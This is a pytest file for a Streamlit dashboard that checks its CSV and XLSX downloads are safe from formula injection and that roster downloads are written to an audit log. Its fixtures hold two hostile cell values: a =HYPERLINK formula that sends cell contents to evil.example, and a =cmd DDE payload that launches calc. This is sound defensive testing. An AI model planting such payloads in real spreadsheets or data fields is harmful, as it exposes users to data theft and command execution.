"""Every download a page offers is formula-safe (CSV and XLSX), and downloads of named data are in
the access log. Hostile text is loaded through the real ingest into a private warehouse: a Work Group
titled =HYPERLINK(...) (the finder's online list once exported it live) and an LLME named =cmd."""

from __future__ import annotations

import pytest
import streamlit as st
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from dashboard.data import audit
from dashboard.downloads import FORMULA_PREFIXES
from pipelines.ingest import ingest
from tests.apptest.pages import AUTH
from tests.hardening.corpus import LLME_COLUMNS, WG_COLUMNS, csv_bytes, llme, wg
from tests.spreadsheets import download_frame, is_xlsx, workbook

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Mastering Number")'
EVIL_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(fresh_warehouse, tmp_path, monkeypatch):
    wg_file = tmp_path / "wg.csv"
    wg_file.write_bytes(
        csv_bytes(
            WG_COLUMNS,
            [
                wg(
                    1,
                    work_group_id="evil-001",
                    title=EVIL_TITLE,
                    delivery="Online",
                    venue_postcode="",
                    venue_name="",
                )
            ],
        )
    )
    assert ingest(fresh_warehouse, "work_groups", wg_file).loaded == 1
    llme_file = tmp_path / "llmes.csv"
    llme_file.write_bytes(csv_bytes(LLME_COLUMNS, [llme(1, full_name=EVIL_NAME)]))
    assert ingest(fresh_warehouse, "llmes", llme_file).loaded == 1
    monkeypatch.setenv("ATLAS_DATA_DIR", str(fresh_warehouse.data_dir))
    st.cache_data.clear()
    st.cache_resource.clear()
    return fresh_warehouse


@pytest.fixture
def served(monkeypatch) -> dict:
    seen: dict = {}
    original = MediaFileManager.add_deferred

    def record(self, data_callable, *args, **kwargs):
        file_id = original(self, data_callable, *args, **kwargs)
        seen[file_id] = data_callable
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    return seen


def open_page(page: str, email: str | None, query: dict) -> AppTest:
    at = AppTest.from_file("../../dashboard/app.py", default_timeout=90)
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": email} if email else {"is_logged_in": False}
    at.run()
    at.switch_page(f"app_pages/{page}.py")
    for key, value in query.items():
        at.query_params[key] = value
    at.run()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def fetched(at: AppTest, served: dict) -> list[tuple[str, bytes]]:
    out = []
    for button in at.get("download_button"):
        if button.proto.deferred_file_id and not button.proto.label.startswith("Add to calendar"):
            out.append((button.proto.label, served[button.proto.deferred_file_id]()))
    return out


def assert_formula_safe(files: list[tuple[str, bytes]], must_contain: str | None) -> None:
    seen_hostile = False
    for label, data in files:
        if is_xlsx(data):
            book = workbook(data)
            for sheet in book:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (label, cell.coordinate, cell.value)
                        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                            assert cell.quotePrefix, (label, cell.coordinate, cell.value)
                            seen_hostile |= cell.value == must_contain
        else:
            frame = download_frame(data)
            for column in frame.columns:
                for value in frame[column].drop_nulls():
                    assert not value.startswith(FORMULA_PREFIXES), (label, column, value)
                    seen_hostile |= value == f"'{must_contain}"
    if must_contain is not None:
        assert seen_hostile, "the hostile text was in a download, so the check was exercised"


def test_finder_online_list_downloads_are_formula_safe(hostile, served):
    at = open_page(
        "work_group_finder", None, {"phase": "primary", "delivery": "online", "year": "2026", "sort": "title"}
    )
    files = fetched(at, served)
    labels = [label for label, _ in files]
    assert "Download this list (CSV)" in labels and "Download this list (XLSX)" in labels
    assert_formula_safe(files, EVIL_TITLE)


def test_roster_downloads_are_formula_safe_and_logged(hostile, served):
    at = open_page("hub_roster", "origin.lead@example.org", {"hub": "origin"})
    before = audit.read()
    files = fetched(at, served)
    assert {"Download roster (CSV)", "Download roster (XLSX)"} <= {label for label, _ in files}
    assert_formula_safe([f for f in files if f[0].startswith("Download roster")], EVIL_NAME)
    after = audit.read()
    downloads = after.filter(after["action"] == "download")
    assert downloads.height - before.filter(before["action"] == "download").height == len(files)
    assert set(downloads["what"]) <= {"llme_roster", "quarantine"}
    assert set(downloads["email"]) == {"origin.lead@example.org"}


def test_about_page_offers_the_open_data_release(use_warehouse, served):
    import io
    import zipfile

    st.cache_data.clear()
    st.cache_resource.clear()
    at = open_page("about_data", None, {})
    [button] = [b for b in at.get("download_button") if b.proto.label.startswith("Download the open data")]
    data = served[button.proto.deferred_file_id]()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = {n.rsplit("/", 1)[-1] for n in archive.namelist()}
    assert {"metadata.json", "data_dictionary.csv", "llmes_by_hub_phase_year.parquet"} <= names
    assert "schools_reached_by_hub_phase_la_year.csv" in names


@pytest.mark.parametrize(
    ("page", "who", "query"),
    [
        ("national_map", None, {}),
        ("llme_coverage", None, {}),
        ("hub_profile", None, {"hub": "origin"}),
        ("about_data", None, {}),
        ("ingest_report", "coordinator@example.org", {}),
        ("outreach", "origin.lead@example.org", {"hub": "origin"}),
    ],
)
def test_every_download_on_the_other_pages_is_formula_safe(hostile, served, page, who, query):
    at = open_page(page, who, query)
    files = [
        (label, data) for label, data in fetched(at, served) if not label.startswith("Download the open data")
    ]
    assert files, f"{page} offers downloads"
    assert any(is_xlsx(data) for _, data in files), "an XLSX beside the CSVs"
    assert_formula_safe(files, None)
